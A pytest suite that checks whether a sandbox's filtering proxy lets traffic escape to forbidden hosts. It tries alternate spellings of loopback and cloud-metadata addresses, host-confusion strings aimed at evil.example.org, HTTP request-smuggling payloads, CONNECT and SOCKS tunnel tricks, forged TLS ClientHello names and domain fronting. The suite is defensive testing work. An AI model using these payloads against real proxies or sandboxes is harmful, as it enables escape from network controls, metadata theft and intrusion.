"""Out of the network by name: every way that is known to lead past a filtering proxy, judged by what the far end saw.

The servers are in another namespace (helpers/internet.py) and stand at forbidden addresses too: what gets past cloche
would be answered. An attack counts as stopped when no packet, no request, no query of a name and no connection to the
host arrived that the rules do not open, whatever the sandbox was told.
"""
import json
import subprocess

import pytest

from helpers import requirement
from helpers.internet import DNS4, ECHO, FORBIDDEN4, FORBIDDEN6, HOST4, HOST6, OTHER4, PRELUDE, SITE4, SITE6
from helpers.runner import wait_for

pytestmark = [requirement("R13", "R14", "R44"), pytest.mark.root]
OK = "ok.example.org"
SITE = {(6, SITE4, 80), (6, SITE4, 443)}
ENDS = "\nprint('done')"


def only(online, result, reached=(), asked=(), hosts=()):
    """The far end saw nothing but that; the attack ran to its end."""
    assert result.ok and "done" in result.out, result
    net = online.net
    assert net.reached() <= set(reached), (net.reached(), result)
    assert net.asked() <= set(asked), (net.asked(), result)
    assert {r["host"] for r in net.requests} <= set(hosts), (net.requests, result)
    assert not net.host_hits, (net.host_hits, result)


def batches(cases, size=9):
    """A sandbox for each @size cases, which run beside each other: parametrised over lists of cases."""
    cases = list(cases)
    return pytest.mark.parametrize("cases", [cases[i:i + size] for i in range(0, len(cases), size)],
                                   ids=lambda some: ascii(some[0]))


AT_ONCE = """
import threading
def at_once(f, cases):
    threads = [threading.Thread(target=f, args=(c,)) for c in cases]
    for t in threads: t.start()
    for t in threads: t.join()
"""

# Tries every way to reach HOST:PORT that there is. What it prints is for the reader of a failure.
EVERY_WAY = AT_ONCE + """
def every_way(host, port=80):
    raw = host.encode('latin-1'); lit = '[%s]' % host if ':' in host and '[' not in host else host
    def way(name, f):
        try: print(name, f()[:70])
        except Exception as e: print(name, type(e).__name__, e)
    at = '' if port == 80 else ':%d' % port
    line = lambda t, h: f'GET {t} HTTP/1.1\\r\\nHost: {h}\\r\\n{CLOSE}\\r\\n'.encode('latin-1')
    way('absolute', lambda: talk(P, line(f'http://{lit}{at}/x', lit + at)))
    way('absolute, allowed Host', lambda: talk(P, line(f'http://{lit}{at}/x', 'ok.example.org')))
    def tunnel():
        s = dial(*P); s.sendall(f'CONNECT {lit}:{port} HTTP/1.1\\r\\nHost: ok.example.org\\r\\n\\r\\n'.encode('latin-1'))
        got = until(s)
        if b' 200 ' in got: s.sendall(line('/x', lit)); got += drain(s)
        return got
    way('connect', tunnel)
    def by_socks():
        s, got = socks(3, bytes([len(raw) & 255]) + raw, port=port)
        if got[:2] == b'\\5\\0': s.sendall(line('/x', lit)); got += drain(s)
        return got
    way('socks', by_socks)
    def straight():
        s = socket.create_connection((host, port), 3); s.sendall(line('/x', lit)); return drain(s)
    way('straight', straight)
    def host_field():
        s = socket.create_connection(('ok.example.org', 80), 3); s.sendall(line('/x', lit)); return drain(s)
    way('host field', host_field)
"""

# --- (a) spellings of addresses -----------------------------------------------------------------------------------------

SPELLINGS = [
    "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0x7f.0.0.0x1", "0177.0.0.1", "017700000001", "0177.1",
    "00000177.0.0.01", "127.0.0.01", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "0xA9.0xFE.43518", "0",
    "::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1", "64:ff9b::127.0.0.1", "2002:7f00:1::", "fd00:ec2::254",
    "::ffff:0:127.0.0.1", "fe80::1%1", "fe80::1%lo", "127.0.0.1.", "256.0.0.1", "4294967297", "::1%lo", "127.0.0.1 ",
    "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "10.5", "0xa000005", "167772165", "012.0.0.5", "::ffff:10.0.0.5",
    "1572395042", "0x5db8d822", "93.12114978", "::ffff:93.184.216.34", "::ffff:5db8:d822", "::93.184.216.34",
    "64:ff9b::5db8:d822", "[::1]", "[127.0.0.1]", "127.0.0.1%00", "127.0.0.1\x00.example.org"]


@batches(SPELLINGS)
def test_spellings_of_addresses(online, cases):
    """No rule names an address, in whatever spelling: neither what is private nor what is public is reached."""
    result = online.python(EVERY_WAY + f"at_once(lambda h: (every_way(h), every_way(h, 8123)), {cases!r})" + ENDS)
    only(online, result, asked=[OK], hosts=[])


@pytest.mark.parametrize("spelling", ["127.1", "2130706433", "0x7f.1", "::ffff:127.0.0.1", "0"])
def test_the_spellings_are_real(online, spelling):
    host = f"[{spelling}]" if ":" in spelling else spelling
    result = online.host(["/usr/bin/curl", "-sS", "-g", "--http0.9", f"http://{host}:8123/"])
    assert result.out == "host service\n" and online.net.host_hits, result


@pytest.mark.parametrize("spelling", ["1572395042", "0x5db8d822", "93.12114978", "0135.0270.0330.042", "::ffff:93.184.216.34",
                                      "64:ff9b::5db8:d822", "2002:5db8:d822::1", "::93.184.216.34"])
def test_other_spellings_of_an_allowed_address_open_nothing_else(online, spelling):
    """If at all, they lead to that address and carry its name."""
    result = online.python(EVERY_WAY + f"every_way({spelling!r}); print('done')", allow=[SITE4])
    only(online, result, reached=[(6, SITE4, 80)], hosts=[SITE4])


# --- (b) classes of addresses, as what an allowed name resolves to ---------------------------------------------------------

RESOLVES_TO = [
    *FORBIDDEN4, *FORBIDDEN6, HOST4, HOST6, "0.0.0.0", "0.1.2.3", "127.0.0.1", "127.9.9.9", "192.88.99.5", "198.18.0.1",
    "198.19.255.5", "224.0.0.1", "239.1.1.1", "240.0.0.1", "255.255.255.255", "::", "::1", "::ffff:127.0.0.1",
    "::ffff:10.0.0.5", "::ffff:0:10.0.0.5", "::10.0.0.5", "64:ff9b:1::a00:5", "64:ff9b::7f00:1", "2002:7f00:1::",
    "2001:0:4136:e378:8000:63bf:f5ff:fffa", "100::5", "2001:db8::5", "3fff::5", "5f00::5", "fe80::5", "ff02::1",
    "fd20:ce::254", "::ffff:93.184.216.1"]


@batches(RESOLVES_TO, 5)
def test_an_allowed_name_with_a_forbidden_address(online, cases):
    names = [f"bad{i}.example.org" for i in range(len(cases))]
    for name, address in zip(names, cases):
        online.net.names[name] = [("AAAA" if ":" in address else "A", address)]
    code = EVERY_WAY + f"""
def attack(name):
    every_way(name); every_way(name, 8123)
    try: print(tls(socket.create_connection((name, 443), 3), name).version())
    except OSError as e: print(e)
at_once(attack, {names!r})
""" + ENDS
    result = online.python(code, allow=[*names, *(f"{name}:8123" for name in names)])
    only(online, result, asked=names)
    assert online.net.asked() == set(names), "every one was looked up"


def test_forbidden_addresses_answer_without_the_wall(online):
    for address in (*FORBIDDEN4, *FORBIDDEN6):
        kind = "AAAA" if ":" in address else "A"
        online.net.names["bad.example.org"] = [(kind, address)]
        result = online.host(["/usr/bin/curl", "-sS", "--max-time", "5", "http://bad.example.org/"])
        assert result.out == "hello bad.example.org /\n", (address, result)


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "169.254.169.254", "0.0.0.0", HOST4, HOST6, "168.63.129.16",
                                     "100.100.100.200", "fd00:ec2::254", "localhost", "metadata.google.internal",
                                     "x.localhost", "198.18.0.1"])
def test_some_are_closed_even_when_a_rule_names_them(online, address):
    online.net.names["metadata.google.internal"] = online.net.names["x.localhost"] = [("A", SITE4)]
    rule = f"[{address}]" if ":" in address else address
    code = EVERY_WAY + f"every_way({address!r}, 8123)\nprint('done')"
    words = ["--allow-domain", rule, *(w for p in (8123, 3128) for w in ("--allow-domain", f"{rule}:{p}"))]
    result = online.python(code, flags=words)
    if result.code == 125:      # refused at the start is as good
        assert not online.net.reached() and not online.net.host_hits
        return
    only(online, result, asked=[OK])


# --- (c) strings that are read as different hosts --------------------------------------------------------------------------

HOSTS = [
    "ok.example.org\x00.evil.example.org", "evil.example.org\x00.ok.example.org", "evil.example.org%00.ok.example.org",
    "evil.example.org%2eok.example.org", "ok%2eexample.org", "evil.example.org\r\nX: ok.example.org",
    "evil.example.org\n", "\tok.example.org", " evil.example.org", "evil.example.org ok.example.org",
    "evil.example.org..", ".evil.example.org", "ok..example.org", "a" * 64 + ".example.org", "a." * 130 + "example.org",
    "evil.example.org.", "EVIL.EXAMPLE.ORG", "_evil.example.org", "xn--.example.org", "xn--evil-.example.org",
    "ok\u3002example.org", "o\u212a.example.org", "ok.example.org\u200d", "\u202eok.example.org", "o\u00adk.example.org",
    "ok.example.org@evil.example.org", "ok.example.org:80@evil.example.org", "evil.example.org\\@ok.example.org",
    "evil.example.org#ok.example.org", "evil.example.org#@ok.example.org", "evil.example.org?ok.example.org",
    "evil.example.org/ok.example.org", "evil.example.org;ok.example.org", "evilok.example.org", "ok.example.org.evil.org",
    "xok.example.org", "ok-example.org", "example.org", "org", "*", "*.example.org", "", ".", "localhost", "a.localhost",
    "host.local", "db.internal", "127.0.0.1.nip.io", "10-0-0-5.sslip.io", "localtest.me", "ok.example.org,evil.example.org",
    "[::1]x", "[ok.example.org]", "ok.example.org:80:80"]


@batches(HOSTS)
def test_strings_that_two_readers_read_differently(online, cases):
    spelled = [host.encode("utf-8").decode("latin-1") for host in cases]
    for name in ("evilok.example.org", "ok.example.org.evil.org", "xok.example.org", "127.0.0.1.nip.io", "db.internal"):
        online.net.names[name] = [("A", OTHER4)]
    result = online.python(EVERY_WAY + f"at_once(every_way, {spelled!r})" + ENDS)
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK], hosts=[OK])


@pytest.mark.parametrize("port", ["0", "065535", "+80", "65536", "", "80x", "-1", "8 0", "0x50", "080", "22", "8080"])
def test_ports(online, port):
    code = f"""
for t in ('http://ok.example.org:{port}/', 'http://ok.example.org:{port}'):
    print(talk(P, b'GET ' + t.encode() + b' HTTP/1.1\\r\\nHost: ok.example.org\\r\\nConnection: close\\r\\n\\r\\n')[:60])
s, got = connect('ok.example.org:{port}'); print(got[:60], 'done')
"""
    result = online.python(code)
    only(online, result, reached=[(6, SITE4, 80)] if port == "" else [], asked=[OK] if port == "" else [], hosts=[OK])


# --- (d) what is said to the proxy ------------------------------------------------------------------------------------------

A, X = b"http://ok.example.org/", b"GET /smuggled HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"
H = b"Host: ok.example.org\r\n"
RAW = {
    "pipelined second request": b"GET " + A + b" HTTP/1.1\r\n" + H + b"\r\n" + X,
    "pipelined absolute": b"GET " + A + b" HTTP/1.1\r\n" + H + b"\r\nGET http://evil.example.org/smuggled HTTP/1.1\r\n\r\n",
    "behind a length": b"POST " + A + b" HTTP/1.1\r\n" + H + b"Content-Length: 4\r\n\r\nbody" + X,
    "behind a chunked body": b"POST " + A + b" HTTP/1.1\r\n" + H +
                             b"Transfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n" + X,
    "length zero": b"POST " + A + b" HTTP/1.1\r\n" + H + b"Content-Length: 0\r\n\r\n" + X,
    "upgrade": b"GET " + A + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n" + X,
    "websocket": b"GET " + A + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + X,
    "get with a body": b"GET " + A + b" HTTP/1.1\r\n" + H + b"Content-Length: %d\r\n\r\n" % len(X) + X,
    "host is another": b"GET " + A + b" HTTP/1.1\r\nHost: evil.example.org\r\n\r\n",
    "expect": b"POST " + A + b" HTTP/1.1\r\n" + H + b"Expect: 100-continue\r\nContent-Length: 2\r\n\r\nab" + X,
}
# These are not one message of known length: nothing of them may go out.
REFUSED = {
    "CL and TE": H + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + X,
    "TE and CL": H + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + X,
    "two lengths": H + b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n" + X,
    "a list of lengths": H + b"Content-Length: 0, 60\r\n\r\n" + X,
    "length +0": H + b"Content-Length: +0\r\n\r\n" + X,
    "length 0x0": H + b"Content-Length: 0x0\r\n\r\n" + X,
    "length -1": H + b"Content-Length: -1\r\n\r\n" + X,
    "length overflow": H + b"Content-Length: 18446744073709551616\r\n\r\n" + X,
    "empty length": H + b"Content-Length:\r\n\r\n" + X,
    "TE xchunked": H + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + X,
    "TE gzip, chunked": H + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + X,
    "TE chunked, identity": H + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + X,
    "TE twice": H + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + X,
    "TE with a vertical tab": H + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + X,
    "TE with a tab": H + b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + X,
    "TE folded": H + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + X,
    "space before colon": H + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + X,
    "space before name": H + b" Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + X,
    "bare LF": H + b"X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + X,
    "bare CR": H + b"X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + X,
    "NUL in a value": H + b"X: y\0z\r\n\r\n",
    "no name": H + b": x\r\n\r\n",
    "two hosts": H + b"Host: evil.example.org\r\n\r\n",
    "two hosts, other first": b"Host: evil.example.org\r\n" + H + b"\r\n",
    "no host": b"X: y\r\n\r\n",
    "host with user": b"Host: ok.example.org@evil.example.org\r\n\r\n",
    "connection names length": H + b"Connection: content-length\r\nContent-Length: 3\r\n\r\nabc",
    "connection names host": H + b"Connection: host\r\n\r\n",
    "too many fields": H + b"X: y\r\n" * 500 + b"\r\n",
    "too large": H + b"X: " + b"y" * 66000 + b"\r\n\r\n",
}
BODIES = {
    "size 0x0": b"0x0\r\n\r\n", "size +0": b"+0\r\n\r\n", "size 0_0": b"0_0\r\n\r\n", "size -1": b"-1\r\n\r\n",
    "size overflow": b"10000000000000004\r\nbody\r\n0\r\n\r\n", "size with blank": b"0 \r\n\r\n", "extension": b"0;a=b\r\n\r\n",
    "bare LF after size": b"4\nbody\r\n0\r\n\r\n", "no CRLF after chunk": b"4\r\nbodyXX0\r\n\r\n",
    "trailer that frames": b"0\r\nContent-Length: 60\r\n\r\n", "trailer host": b"0\r\nHost: evil.example.org\r\n\r\n",
    "empty size": b"\r\n\r\n",
}
LINES = {
    "CONNECT with a body": b"CONNECT ok.example.org:80 HTTP/1.1\r\n" + H + b"Content-Length: 60\r\n\r\n" + X,
    "HTTP/0.9": b"GET http://ok.example.org/smuggled\r\n",
    "HTTP/2.0": b"GET http://ok.example.org/smuggled HTTP/2.0\r\n" + H + b"\r\n",
    "lower case version": b"GET http://ok.example.org/smuggled http/1.1\r\n" + H + b"\r\n",
    "two spaces": b"GET  http://ok.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "tab": b"GET\thttp://ok.example.org/smuggled\tHTTP/1.1\r\n" + H + b"\r\n",
    "ftp": b"GET ftp://evil.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "https by the proxy": b"GET https://ok.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "file": b"GET file:///etc/passwd HTTP/1.1\r\n" + H + b"\r\n",
    "user in target": b"GET http://ok.example.org@evil.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "backslash in target": b"GET http://evil.example.org\\@ok.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "no scheme": b"GET evil.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "h2c prior knowledge": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0",
    "TLS to the proxy": b"\x16\x03\x01\x00\x05hello",
    "empty lines first": b"\r\n\r\n" + X,
    "CONNECT without a port": b"CONNECT evil.example.org HTTP/1.1\r\n" + H + b"\r\n",
    "CONNECT path": b"CONNECT /ok.example.org:80 HTTP/1.1\r\n" + H + b"\r\n",
    "CONNECT URL": b"CONNECT http://ok.example.org:80/ HTTP/1.1\r\n" + H + b"\r\n",
    "origin form": b"GET /smuggled HTTP/1.1\r\n" + H + b"\r\n",
}
REFUSED_WHOLE = {**{k: b"POST " + A + b"smuggled HTTP/1.1\r\n" + v for k, v in REFUSED.items()}, **LINES}


def everywhere(*cases):
    """The bytes to the proxy, and (in origin form) to port 80 of the allowed name's address and into a tunnel."""
    return AT_ONCE + f"""
def everywhere(data):
    inner = data.replace(b'http://ok.example.org/', b'/')
    def attempt(f):
        try: print(f()[:60])
        except OSError as e: print(e)
    attempt(lambda: talk(P, data, 1))
    attempt(lambda: talk((socket.gethostbyname('ok.example.org'), 80), inner, 1))
    def tunnel():
        s, got = connect('ok.example.org:80'); s.sendall(inner); return drain(s, 1)
    attempt(tunnel)
    def halves():
        s = dial(*P)
        for i in range(0, min(len(data), 200)): s.sendall(data[i:i + 1])
        s.sendall(data[200:]); return drain(s, 1)
    attempt(halves)
at_once(everywhere, {cases!r})
""" + ENDS


@pytest.mark.parametrize("case", RAW)
def test_one_request_and_no_second(online, case):
    result = online.python(everywhere(RAW[case]))
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK], hosts=[OK])
    assert all(r["path"] in ("/", "") for r in online.net.requests), online.net.requests
    names = {name for r in online.net.requests for name, _ in r["headers"]}
    assert not names & {"proxy-authorization", "proxy-connection"}, names
    assert "upgrade" not in names or case == "websocket", names


def test_a_body_that_the_server_overlooks_is_no_second_request(online):
    """The server answers and leaves the body where it looks for the next request."""
    result = online.python(f"""
for method in ('GET', 'HEAD', 'OPTIONS', 'DELETE'):
    s = dial(*P); s.sendall(method.encode() + b' {A.decode()} HTTP/1.1\\r\\n' + {H!r} + b'Content-Length: %d\\r\\n\\r\\n' % {len(X)} + {X!r})
    s.sendall(b'GET {A.decode()} HTTP/1.1\\r\\n' + {H!r} + b'\\r\\n'); print(drain(s, 1)[:60])
""" + ENDS)
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK], hosts=[OK])
    assert {r["path"] for r in online.net.requests} == {"/"}, online.net.requests


def test_a_second_request_is_real_without_the_wall(online):
    result = online.host_python(f"print(talk(({SITE4!r}, 80), {b'GET / HTTP/1.1' + bytes([13, 10]) + H + bytes([13, 10]) + X!r}))")
    assert [r["path"] for r in online.net.requests] == ["/", "/smuggled"], result


@batches([case for case in REFUSED_WHOLE if case != "origin form"])
def test_what_is_not_plainly_one_message_goes_nowhere(online, cases):
    result = online.python(everywhere(*(REFUSED_WHOLE[case] for case in cases)))
    # in a tunnel the connection is there before what is said in it
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK])
    assert not online.net.requests
    assert not any(kept for _, kept in online.net.connections), online.net.connections


def test_the_proxy_takes_no_request_without_a_host_in_its_target(online):
    result = online.python(f"print(talk(P, {LINES['origin form']!r}, 1))" + ENDS)
    only(online, result)


@pytest.mark.parametrize("case", BODIES)
def test_chunks_that_two_readers_end_differently(online, case):
    head = b"POST " + A + b" HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n"
    result = online.python(everywhere(head + BODIES[case] + X))
    only(online, result, reached=[(6, SITE4, 80)], asked=[OK], hosts=[OK])
    assert not any(b"smuggled" in kept for _, kept in online.net.connections), online.net.connections


def test_fields_for_the_proxy_stay_there(online):
    fields = (b"Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nConnection: X-Hop, keep-alive\r\n"
              b"X-Hop: secret\r\nKeep-Alive: timeout=9\r\nTE: trailers\r\nX-End: kept\r\n\r\n")
    result = online.python(f"print(talk(P, {b'GET ' + A + b' HTTP/1.1' + bytes([13, 10]) + H + fields!r}))" + ENDS)
    only(online, result, reached=SITE, asked=[OK], hosts=[OK])
    names = {name for name, _ in online.net.requests[0]["headers"]}
    assert "x-end" in names and not names & {"proxy-authorization", "proxy-connection", "x-hop", "keep-alive", "te"}, names


TUNNELS = {
    "other Host": b"GET /smuggled HTTP/1.1\r\nHost: evil.example.org\r\n\r\n",
    "absolute other": b"GET http://evil.example.org/smuggled HTTP/1.1\r\n" + H + b"\r\n",
    "no Host": b"GET /smuggled HTTP/1.0\r\n\r\n",
    "CONNECT inside": b"CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n",
    "h2c": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    "SOCKS": b"\5\1\0", "SSH": b"SSH-2.0-evil\r\n", "binary": bytes(range(1, 200)), "nothing but NULs": bytes(100),
    "other port in Host": b"GET /smuggled HTTP/1.1\r\nHost: ok.example.org:8080\r\n\r\n",
}


@pytest.mark.parametrize("port", [80, 443])
@pytest.mark.parametrize("case", TUNNELS)
def test_inside_a_tunnel(online, case, port):
    """CONNECT names an allowed host; what is said inside is meant for another."""
    code = f"""
s, got = connect('ok.example.org:{port}'); print(got[:40]); s.sendall({TUNNELS[case]!r}); print(drain(s, 1)[:80])
s = dial(*P); s.sendall(b'CONNECT ok.example.org:{port} HTTP/1.1\\r\\n\\r\\n' + {TUNNELS[case]!r}); print(drain(s, 1)[:80])
s = dial(*P); s.sendall(b'CONNECT ok.example.org:{port} HTTP/1.1\\r\\n' + {H!r} + b'\\r\\n' + {TUNNELS[case]!r})
print(drain(s, 1)[:80])
s, got = socks(3, b'\\x0eok.example.org', port={port}); s.sendall({TUNNELS[case]!r}); print(drain(s, 1)[:80])
""" + ENDS
    result = online.python(code)
    only(online, result, reached=SITE, asked=[OK])
    assert not online.net.requests and not online.net.hellos
    assert not any(kept for _, kept in online.net.connections), online.net.connections


# --- (d) SOCKS ---------------------------------------------------------------------------------------------------------------

SOCKS = {
    "BIND": "socks(3, b'\\x0eok.example.org', command=2)", "UDP ASSOCIATE": "socks(1, bytes(4), command=3)",
    "command 0": "socks(3, b'\\x0eok.example.org', command=0)", "command 240": "socks(3, b'\\x0eok.example.org', command=240)",
    "NUL in name": "socks(3, b'\\x1fok.example.org\\0.evil.example.org')", "NUL at end": "socks(3, b'\\x0fok.example.org\\0')",
    "length 0": "socks(3, b'\\0')", "length 255": "socks(3, b'\\xff' + b'a' * 255)",
    "length beyond": "socks(3, b'\\xffok.example.org')", "type 2": "socks(2, b'ok.example.org')",
    "port 0": "socks(3, b'\\x0eok.example.org', port=0)", "port 22": "socks(3, b'\\x0eok.example.org', port=22)",
    "v4 private": "socks(1, bytes([10, 0, 0, 5]))", "v4 loopback": "socks(1, bytes([127, 0, 0, 1]), port=8123)",
    "v4 public": f"socks(1, socket.inet_aton('{SITE4}'))", "v6 mapped": "socks(4, socket.inet_pton(10, '::ffff:10.0.0.5'))",
    "v6 public": f"socks(4, socket.inet_pton(10, '{SITE6}'))", "v6 loopback": "socks(4, socket.inet_pton(10, '::1'), port=8123)",
    "v6 NAT64": "socks(4, socket.inet_pton(10, '64:ff9b::a00:5'))", "address as name": "socks(3, b'\\x0810.0.0.5')",
    "address as name 2": "socks(3, b'\\x05127.1', port=8123)", "brackets as name": "socks(3, b'\\x05[::1]', port=8123)",
    "name and port": "socks(3, b'\\x11ok.example.org:22', port=80)",
    "denied name": "socks(3, b'\\x10evil.example.org')", "only passwords": "socks(3, b'', greeting=b'\\5\\1\\2')",
    "no methods": "socks(3, b'', greeting=b'\\5\\0')", "version 6": "socks(3, b'', greeting=b'\\6\\1\\0')",
    "4": f"(None, talk(S, b'\\4\\1\\0\\x50' + socket.inet_aton('{SITE4}') + b'me\\0', 1))",
    "4a": "(None, talk(S, b'\\4\\1\\0\\x50\\0\\0\\0\\1me\\0evil.example.org\\0', 1))",
    "4a allowed": "(None, talk(S, b'\\4\\1\\0\\x50\\0\\0\\0\\1me\\0ok.example.org\\0', 1))",
    "4 bind": f"(None, talk(S, b'\\4\\2\\0\\x50' + socket.inet_aton('{SITE4}') + b'\\0', 1))",
}


@pytest.mark.parametrize("case", SOCKS)
def test_socks(online, case):
    code = f"""
for S in (('198.18.0.1', 1080), ('198.18.0.1', 3128)):
    try:
        s, got = {SOCKS[case].replace("socks(", "socks(where=S, kind=").replace("kind=", "kind=", 1)}
        print(got)
        assert got[:2] not in (b'\\5\\0', b'\\0\\x5a') or got == b'\\5\\0' and len(got) == 2, 'OPENED'
        if s and got[:1] == b'\\5': s.sendall(get('ok.example.org', '/smuggled')); print(drain(s, 1))
    except (TimeoutError, ConnectionError) as e: print(e)
""".replace("kind=", "", 0) + ENDS
    result = online.python(code.replace("socks(where=S, kind=", "socks_at(S, ").replace(
        "\nfor S", "\ndef socks_at(where, kind, body, **k):\n    return socks(kind, body, where=where, **k)\nfor S", 1))
    only(online, result)


# --- (e) TLS -------------------------------------------------------------------------------------------------------------------

HELLO = AT_ONCE + """
def ext(kind, body): return struct.pack('>HH', kind, len(body)) + body
def sni(*names):
    listed = b''.join(bytes([0]) + struct.pack('>H', len(n)) + n for n in names)
    return ext(0, struct.pack('>H', len(listed)) + listed)
ECH = ext(0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\x20' + bytes(32) + b'\\0\\x40' + bytes(64))
BASE = ext(10, b'\\0\\4\\0\\x1d\\0\\x17') + ext(13, b'\\0\\4\\4\\3\\8\\4') + ext(43, b'\\4\\3\\4\\3\\3') + \\
       ext(51, b'\\0\\x24\\0\\x1d\\0\\x20' + bytes(range(32)))
def handshake(extensions):
    body = b'\\3\\3' + bytes(32) + b'\\x20' + bytes(32) + b'\\0\\6\\x13\\1\\xc0\\x2b\\xc0\\x2f' + b'\\1\\0'
    body += struct.pack('>H', len(extensions)) + extensions
    return b'\\1' + struct.pack('>I', len(body))[1:] + body
def records(data, size=16384):
    return b''.join(b'\\x16\\3\\1' + struct.pack('>H', len(data[i:i + size])) + data[i:i + size]
                    for i in range(0, len(data), size))
def hello(*extensions, size=16384): return records(handshake(b''.join(extensions) + BASE), size)
def everywhere(data):
    def attempt(f):
        try: print(f()[:60])
        except OSError as e: print(e)
    attempt(lambda: talk((socket.gethostbyname('ok.example.org'), 443), data, 1))
    attempt(lambda: talk((socket.getaddrinfo('ok.example.org', 443, socket.AF_INET6)[0][4][0], 443), data, 1))
    def tunnel():
        s, got = connect('ok.example.org:443'); s.sendall(data); return drain(s, 1)
    attempt(tunnel)
    def at_once():
        return talk(P, b'CONNECT ok.example.org:443 HTTP/1.1\\r\\nHost: ok.example.org:443\\r\\n\\r\\n' + data, 1)
    attempt(at_once)
    def by_socks():
        s, got = socks(3, b'\\x0eok.example.org', port=443); s.sendall(data); return drain(s, 1)
    attempt(by_socks)
    def bytewise():
        s = dial(socket.gethostbyname('ok.example.org'), 443)
        for i in range(len(data) if len(data) < 1500 else 0): s.sendall(data[i:i + 1])
        return drain(s, 1)
    attempt(bytewise)
OK = b'ok.example.org'; EVIL = b'evil.example.org'
"""
HELLOS = {
    "other name": "hello(sni(EVIL))", "no name": "hello()", "an address": f"hello(sni(b'{SITE4}'))",
    "loopback": "hello(sni(b'127.0.0.1'))", "ECH": "hello(sni(OK), ECH)", "ECH first": "hello(ECH, sni(OK))",
    "ECH and no name": "hello(ECH)", "two names": "hello(sni(OK, EVIL))", "two names, other first": "hello(sni(EVIL, OK))",
    "two extensions": "hello(sni(OK), sni(EVIL))", "two equal extensions": "hello(sni(OK), sni(OK))",
    "NUL": "hello(sni(OK + b'\\0' + EVIL))", "NUL at end": "hello(sni(OK + b'\\0'))", "empty name": "hello(sni(b''))",
    "parent": "hello(sni(b'example.org'))", "child": "hello(sni(b'a.ok.example.org'))", "name and port": "hello(sni(OK + b':443'))",
    "not ASCII": "hello(sni('ök.example.org'.encode()))", "wildcard": "hello(sni(b'*.example.org'))",
    "in fragments": "hello(sni(EVIL), size=1)", "in records": "hello(sni(EVIL), size=40)",
    "padded": "hello(ext(21, bytes(8000)), sni(EVIL))",
    "cut name": "hello(ext(0, b'\\0\\xff\\0\\0\\xffok.example.org'))", "SSL 2": "b'\\x80\\x2e\\1\\3\\1\\0\\x15\\0\\0\\0\\x10' + bytes(40)",
    "not TLS": "b'GET / HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n'", "alert": "b'\\x15\\3\\1\\0\\2\\2\\x28'",
    "application data": "b'\\x17\\3\\3\\0\\5hello'", "server hello": "b'\\x16\\3\\3\\0\\4\\2\\0\\0\\0'",
    "bytes behind": "records(handshake(sni(EVIL) + BASE) + handshake(sni(OK) + BASE))",
}


@batches(HELLOS, 6)
def test_tls(online, cases):
    """The far end never gets a ClientHello that does not plainly name the host that was allowed."""
    result = online.python(HELLO + f"at_once(everywhere, [{', '.join(HELLOS[c] for c in cases)}])" + ENDS)
    only(online, result, reached=[(6, SITE4, 443)], asked=[OK])
    assert not online.net.hellos and not online.net.requests, online.net.hellos


@pytest.mark.parametrize("case", ["hello(sni(OK))", "hello(sni(OK), size=30)", "hello(ext(21, bytes(3000)), sni(OK))",
                                  "hello(sni(b'OK.Example.ORG'))"])
def test_tls_that_does_is_passed_on(online, case):
    result = online.python(HELLO + f"everywhere({case})" + ENDS)
    only(online, result, reached=[(6, SITE4, 443)], asked=[OK])
    assert len(online.net.hellos) >= 5, result


def test_domain_fronting_by_a_real_client(online):
    """An allowed name in the ClientHello of a connection to a denied one's address, and the other way round."""
    code = """
for where in ('93.184.216.34', '93.184.216.35'):
    for name in ('ok.example.org', 'evil.example.org'):
        try: print(where, name, tls(dial(where, 443), name).version())
        except OSError as e: print(where, name, type(e).__name__)
for name in ('evil.example.org', None):
    for c in (lambda: connect('ok.example.org:443')[0], lambda: dial(socket.gethostbyname('ok.example.org'), 443)):
        try: print(name, tls(c(), name).version() if name else ssl._create_unverified_context().wrap_socket(c()).version())
        except (OSError, ValueError) as e: print(name, type(e).__name__)
""" + ENDS
    result = online.python(code)
